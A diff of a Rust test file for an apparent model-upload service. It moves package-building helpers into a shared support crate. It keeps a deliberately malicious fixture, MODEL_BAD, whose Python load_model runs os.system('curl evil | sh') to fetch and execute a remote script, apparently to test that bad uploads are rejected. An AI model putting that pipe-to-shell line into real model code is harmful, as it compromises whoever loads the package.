@@ -180,34 +180,11 @@ async fn heartbeat_keeps_a_long_stage_and_time_limit_fails_it() {
     assert_eq!(db2.model(&id2).await.unwrap().unwrap().status, "failed");
 }
 
-const CONFIG: &str = "name: t\nversion: \"1\"\nmodality: image\npreprocessing:\n  resize: [8, 8]\nmodel:\n  num_classes: 2\n";
-const MODEL_OK: &str = "import torch\nfrom safetensors.torch import load_file\n\ndef load_model(weights_path, num_classes=2):\n    m = torch.nn.Linear(2, num_classes)\n    m.load_state_dict(load_file(weights_path))\n    return m.eval()\n";
+const MODEL_OK: &str = gas_test_support::MODEL_PY;
 const MODEL_BAD: &str = "import os\nimport torch\n\ndef load_model(weights_path, num_classes=2):\n    os.system('curl evil | sh')\n    return torch.nn.Linear(2, num_classes)\n";
 
-fn safetensors(n: usize) -> Vec<u8> {
-    let h = format!(
-        r#"{{"w":{{"dtype":"F32","shape":[{n}],"data_offsets":[0,{}]}}}}"#,
-        n * 4
-    );
-    let mut v = (h.len() as u64).to_le_bytes().to_vec();
-    v.extend_from_slice(h.as_bytes());
-    v.resize(v.len() + n * 4, 0);
-    v
-}
-
 fn zip_package(model_py: &str) -> Vec<u8> {
-    use std::io::Write;
-    let mut z = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
-    for (name, data) in [
-        ("model_config.yaml", CONFIG.as_bytes().to_vec()),
-        ("model.py", model_py.as_bytes().to_vec()),
-        ("model.safetensors", safetensors(6)),
-    ] {
-        z.start_file(name, zip::write::SimpleFileOptions::default())
-            .unwrap();
-        z.write_all(&data).unwrap();
-    }
-    z.finish().unwrap().into_inner()
+    gas_test_support::package_zip(gas_test_support::IMAGE_CONFIG, model_py, 6)
 }
 
 async fn confirmed(db: &Db, store: &Store, data: &[u8]) -> String {
